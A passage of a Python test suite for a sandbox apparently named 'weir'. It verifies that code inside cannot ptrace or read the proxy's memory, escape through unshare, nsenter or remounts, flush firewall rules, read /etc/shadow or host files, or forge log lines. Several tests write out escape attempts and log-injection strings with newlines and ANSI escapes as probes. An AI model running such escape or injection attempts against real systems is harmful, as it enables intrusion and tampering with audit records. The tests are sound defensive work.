                   runtime=[name for name in ("/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket",
                            "/run/systemd/private") if os.path.exists(name)])
        """)
        self.assertNotIn(None, done.report["seen"], done)
        self.assertEqual(done.report["runtime"], [], done)
        for listener in listeners:
            with self.assertRaises(BlockingIOError):
                listener.accept()

    def test_G5_neither_the_proxy_nor_the_keeper_can_be_traced_or_read(self):
        running = self.start_python("""
            sync("up")
            with open("pids") as file:
                pids = [int(pid) for pid in file.read().split()]
            libc = ctypes.CDLL(None, use_errno=True)
            seen = {}
            for pid in pids:
                ctypes.set_errno(0)
                attached = libc.ptrace(16, pid, None, None)
                seen[f"ptrace {pid}"] = attached == 0
                seen[f"mem {pid}"] = failure(lambda: open(f"/proc/{pid}/mem", "rb").close()) is None
                seen[f"kill {pid}"] = failure(lambda: os.kill(pid, 0)) is None
            report(seen=seen, own=os.getpid(), visible=sorted(p for p in os.listdir("/proc") if p.isdigit()))
        """)
        running.reached("up")
        pids = [running.pid, running.proxy()]
        self.write("pids", " ".join(map(str, pids)))
        running.go("up")
        done = running.finish()
        self.assertEqual(done.status, 0, done)
        for key, reached in done.report["seen"].items():
            # The same number inside may be another process of the sandbox's own; only foreign ones count.
            if key.split()[1] not in done.report["visible"]:
                self.assertFalse(reached, f"{key}\n{done}")

    def test_G5_the_proxy_is_not_readable_by_other_processes_of_its_user(self):
        running = self.start_python("sync('up')")
        running.reached("up")
        proxy = running.proxy()
        try:
            with open(f"/proc/{proxy}/status", encoding="ascii") as file:
                status = dict(line.rstrip().split(":", 1) for line in file)
        finally:
            running.go("up")
            running.finish()
        self.assertEqual(status["Seccomp"].strip(), "2", "the proxy has no system call filter")
        self.assertEqual(status["NoNewPrivs"].strip(), "1")
        self.assertEqual(int(status["CapEff"], 16), 0, "the proxy holds capabilities")
        self.assertEqual(int(status["CapPrm"], 16), 0)

    def test_G1_nested_namespaces_gain_nothing(self):
        done = self.inside(f"""
            code = "import socket; socket.create_connection(('127.0.0.1', {self.api.port}), timeout=5)"
            def run(*words):
                done = subprocess.run(words, capture_output=True, text=True, timeout=60)
                return [done.returncode, (done.stdout + done.stderr)[-300:]]
            report(
                room=run("unshare", "-Ur", "sh", "-c", "ip link add weir0 type dummy; ip addr add 10.9.9.9/8 dev lo; "
                         "nft flush ruleset; ip route add default dev lo; ip -o link | wc -l; nft list ruleset"),
                own=run("unshare", "-Urn", sys.executable, "-c", code),
                join=run("nsenter", "-t", "1", "-n", "true"),
                remount=run("unshare", "-Urm", "sh", "-c", "mount -o remount,rw /usr && touch /usr/weir-was-here"),
                after=get("/after")["status"])
        """)
        self.assertNotEqual(done.report["own"][0], 0, done)
        self.assertNotEqual(done.report["remount"][0], 0, done)
        self.assertFalse(os.path.exists("/usr/weir-was-here"))
        self.assertEqual(done.report["after"], 200, "the room was changed from inside\n" + str(done))

    def test_G1_the_rooms_rules_can_be_neither_read_nor_changed_inside(self):
        if not shutil.which("nft"):
            self.skipTest("nft is not installed")
        done = self.inside("""
            def run(*words):
                done = subprocess.run(words, capture_output=True, text=True, timeout=60)
                return [done.returncode, done.stdout]
            report(listed=run("nft", "list", "ruleset"), flushed=run("nft", "flush", "ruleset"),
                   link=run("ip", "link", "set", "lo", "down"), route=run("ip", "route", "flush", "table", "main"),
                   after=get("/after")["status"])
        """)
        self.assertEqual(done.report["listed"][1].strip(), "", done)
        self.assertNotEqual(done.report["flushed"][0], 0, done)
        self.assertNotEqual(done.report["link"][0], 0, done)
        self.assertEqual(done.report["after"], 200, done)

    def test_G1_other_socket_families_lead_nowhere(self):
        done = self.inside("""
            def vsock(cid):
                with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as sock:
                    sock.settimeout(5)
                    sock.connect((cid, 1024))
            def family(number, kind):
                socket.socket(number, kind).close()
            report(vsock={cid: failure(lambda: vsock(cid)) for cid in (0, 1, 2, 3)},
                   bluetooth=failure(lambda: family(31, 5)), alg=failure(lambda: family(38, 5)),
                   xdp=failure(lambda: family(44, 3)))
        """)
        for cid, failed in done.report["vsock"].items():
            self.assertIsNotNone(failed, f"AF_VSOCK to {cid} connects\n{done}")

    def test_G6_the_hosts_files_are_not_writable_and_private_ones_not_readable(self):
        with open(os.path.join(self.home, "private"), "w", encoding="ascii") as file:
            file.write("host's")
        done = self.inside(f"""
            seen = {{}}
            for path in ("/usr/weir-was-here", "/etc/weir-was-here", "/bin/weir-was-here", "{self.home}/weir-was-here"):
                seen[path] = failure(lambda: open(path, "w").close())
            report(seen=seen, private=failure(lambda: open("{self.home}/private").close()),
                   shadow=failure(lambda: open("/etc/shadow").close()),
                   state=failure(lambda: os.listdir("{self.state}")), vault=failure(lambda: os.listdir("{self.data}")),
                   uid=os.getuid(), caps=open("/proc/self/status").read())
        """)
        for path in ("/usr/weir-was-here", "/etc/weir-was-here", "/bin/weir-was-here"):
            self.assertFalse(os.path.exists(path), done)
        self.assertFalse(os.path.exists(os.path.join(self.home, "weir-was-here")), done)
        self.assertIsNotNone(done.report["private"], done)
        self.assertIsNotNone(done.report["shadow"], done)
        self.assertIsNotNone(done.report["state"], done)
        self.assertIsNotNone(done.report["vault"], done)
        self.assertNotEqual(done.report["uid"], 0, done)
        self.assertIn("CapEff:\t0000000000000000", done.report["caps"], done)

    def test_G5_two_sandboxes_have_their_own_authority_and_cannot_meet(self):
        first = self.start_python("""
            import shutil
            shutil.copy(os.environ["SSL_CERT_FILE"], "first.pem")
            with socket.create_server(("0.0.0.0", 18999)) as server:
                sync("up")
                server.setblocking(False)
                assert failure(server.accept) == "EAGAIN"
        """)
        first.reached("up")
        self.write("other.py", """
            from inside import *
            import shutil
            shutil.copy(os.environ["SSL_CERT_FILE"], "second.pem")
            report(failed=[failure(lambda: socket.create_connection((host, 18999), timeout=20).close())
                                        for host in ("127.0.0.1", "192.0.0.8")])
        """)
        second = self.run_inside("/usr/bin/python3", "other.py")
        first.go("up")
        done = first.finish()
        self.assertEqual((done.status, second.status), (0, 0), f"{done}\n{second}")
        self.assertEqual(second.report["failed"], ["ECONNREFUSED"] * 2, second)

        def roots(name):
            with open(os.path.join(self.project, name), encoding="utf-8") as file:
                return set(file.read().split("-----BEGIN CERTIFICATE-----"))
        self.assertTrue(roots("first.pem") - roots("second.pem"), "both trust the same authority")
        self.assertTrue(roots("second.pem") - roots("first.pem"), "both trust the same authority")

@also_as_ordinary_user
class NothingUnrecorded(Sealed):
    """G3"""

    def test_G3_what_a_hostile_client_sends_cannot_forge_a_line(self):
        done = self.inside("""
            evil = '/x%0a{"seq":1}%1b[31m?' + "A" * 3000
            statuses = [ask(request(path=evil))["status"], ask(request(method="G\\x5cT"))["status"],
                        ask(f"GET /\\x7f\\x9b31m HTTP/1.1\\r\\nHost: api.test.example\\r\\n\\r\\n")["status"]]
            dns_query('a\\n{"seq":9}\\x1b[2J.example')
            report(statuses=statuses)
        """)
        self.assertEqual([e["seq"] for e in done.events], list(range(1, len(done.events) + 1)), done)
        with open(next(os.path.join(d, f) for d, _, fs in os.walk(self.state) for f in fs if f.endswith(".jsonl")),
                  "rb") as file:
            data = file.read()
        for octet in range(0x20):
            if octet != 0x0a:
                self.assertNotIn(bytes([octet]), data)
        self.assertNotIn(b"\x1b", data)
        self.assertEqual(self.weir("log", "verify").status, 0)

    def test_G3_every_kind_of_refusal_is_recorded(self):
        done = self.inside("""
            get("/", host="other.test.example")
            ask(request(host="denied.test.example"))
            ask(b"GET / HTTP/1.1\\r\\nHost : api.test.example\\r\\n\\r\\n")
            get("/", host="1.1.1.1", tls=False)
            dns_query("nowhere.example")
            report(ok=True)
        """)
        codes = {d["code"] for d in done.of("egress.denied")}
        self.assertLessEqual({"host_mismatch", "no_rule"}, codes, done)
        self.assertTrue(codes & {"bad_header_name", "bad_request"}, done)
        self.assertTrue(done.of("dns.query", verdict="refused"), done)
        for denied in done.of("egress.denied"):
            self.assertTrue(denied["reason"], denied)

    def test_G3_concurrent_requests_are_all_recorded(self):
        done = self.inside("""
            from concurrent.futures import ThreadPoolExecutor
            def one(worker):
                wire = Wire()
                return [wire.send(request(path=f"/{worker}/{n}")).answer().status for n in range(20)]
            with ThreadPoolExecutor(16) as pool:
                got = list(pool.map(one, range(32)))
            report(ok=sum(s == 200 for row in got for s in row))
        """, deadline=120)
        self.assertEqual(done.report["ok"], 640, done)
        self.assertEqual(len({d["path"] for d in done.of("egress.request")}), 640)
        self.assertEqual(len({d["request"] for d in done.of("egress.response", status=200)}), 640)
        self.assertEqual([e["seq"] for e in done.events], list(range(1, len(done.events) + 1)))


if __name__ == "__main__":
    main()
